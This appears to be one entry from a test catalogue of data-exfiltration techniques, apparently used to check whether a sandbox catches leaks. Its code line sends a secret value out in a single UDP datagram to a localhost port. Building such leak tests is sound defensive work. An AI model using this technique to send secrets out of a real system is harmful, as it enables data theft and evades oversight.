"""Attack 195: udp"""

IDEA = "One datagram, which needs no connection."
SOURCE = "udp(7)"
WAY = "outside/network/any"
CODE = """
import socket

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(SECRET.encode(), ("127.0.0.1", T["udp"]))
"""
ABSENT = ["SECRET"]
WAIT = 0.2
